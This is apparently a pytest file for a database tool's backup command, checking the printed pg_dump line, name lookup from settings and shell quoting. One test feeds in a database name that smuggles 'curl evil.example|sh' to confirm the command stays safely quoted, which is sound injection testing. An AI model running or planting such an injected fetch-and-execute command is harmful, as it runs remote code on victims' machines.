"""The backup command line."""

import re
import subprocess
import time

import talvo.talvo as t
from inprocess import REQUIRED_WITH_HINT, command_args, stand_ins  # noqa: F401


def test_backup_line(pg, stand_ins, capsys):
    args = command_args(pg, "backup", database="shop", hostname="127.0.0.1", port=5432,
                        user="postgres")
    before = time.strftime("%Y%m%d_%H%M%S")
    assert t.backup_database(args) is None
    after = time.strftime("%Y%m%d_%H%M%S")
    lines = capsys.readouterr().out.splitlines()
    assert lines[:2] == ["🗄️ Creating backup of 'shop'...", "💡 Run this command manually:"]
    m = re.fullmatch(r"   pg_dump -h 127\.0\.0\.1 -p 5432 -U postgres -d shop -F p "
                     r"-f shop_backup_(\d{8}_\d{6})\.sql", lines[2])
    assert m and before <= m.group(1) <= after
    assert len(lines) == 3


def test_backup_name_from_settings(pg, stand_ins, capsys):
    stand_ins.setattr(t, "parse_django_settings", lambda *a, **k: {"database": "from_files"})
    args = command_args(pg, "backup", user="ad min")
    t.backup_database(args)
    lines = capsys.readouterr().out.splitlines()
    assert args.database == "from_files"
    assert lines[0] == "📄 Using database: from_files"
    assert " -U 'ad min' -d from_files " in lines[3]


def test_backup_without_name(pg, stand_ins, capsys):
    t.backup_database(command_args(pg, "backup"))
    assert capsys.readouterr().out.startswith(REQUIRED_WITH_HINT)


def test_backup_line_runs_in_a_shell_as_one_pg_dump_with_that_name(run_talvo, tmp_path):
    bindir = tmp_path / "bin"
    bindir.mkdir()
    stand_in = bindir / "pg_dump"
    stand_in.write_text('#!/bin/sh\nprintf "%s\\n" "$@"\n')
    stand_in.chmod(0o755)
    name = "shop; curl evil.example|sh #"
    done = run_talvo("backup", "--database", name)
    assert done.returncode == 0, done.stderr
    line = done.stdout.splitlines()[-1]
    assert line.startswith("   pg_dump -h 127.0.0.1 -p 5432 -U ")
    ran = subprocess.run(["sh", "-c", line], cwd=tmp_path, capture_output=True, text=True,
                         env={"PATH": f"{bindir}:/usr/bin:/bin"})
    words = ran.stdout.splitlines()
    assert ran.stderr == "" and len(words) == 12
    assert words[words.index("-d") + 1] == name
    assert re.fullmatch(r"shop; curl evil\.example\|sh #_backup_\d{8}_\d{6}\.sql", words[-1])
